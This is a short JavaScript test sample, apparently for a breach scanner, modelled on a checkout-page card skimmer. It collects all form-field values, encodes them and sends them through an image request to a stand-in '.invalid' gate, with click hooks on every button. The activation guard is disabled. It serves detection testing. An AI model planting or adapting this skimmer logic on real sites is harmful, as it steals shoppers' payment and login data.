/* synthetic test sample for breachscan: skimmer-kit shape (object with a gate address, field
 * store, send routine through an image element, checkout-URL gate, click hooks on every
 * button). Inert: Init is never called (`if (false)`), the gate is an .invalid name. */
var SynthKit = {
  Gate: "https://cdn-analytics.invalid/gate.php",
  Data: {},
  Save: function (el) { if (el.name && el.value) SynthKit.Data[el.name] = el.value; },
  Collect: function () {
    var els = document.querySelectorAll("input, select, textarea");
    for (var i = 0; i < els.length; i++) SynthKit.Save(els[i]);
  },
  Send: function () {
    SynthKit.Collect();
    var payload = btoa(encodeURIComponent(JSON.stringify(SynthKit.Data)));
    var img = document.createElement("IMG");
    img.src = SynthKit.Gate + "?d=" + payload;
  },
  Init: function () {
    var b = document.querySelectorAll("button, input[type=submit], .btn");
    for (var i = 0; i < b.length; i++) b[i].addEventListener("click", SynthKit.Send, false);
  }
};
if (false && (new RegExp("onepage|checkout|onestep|firecheckout")).test(window.location)) {
  SynthKit.Init();
}
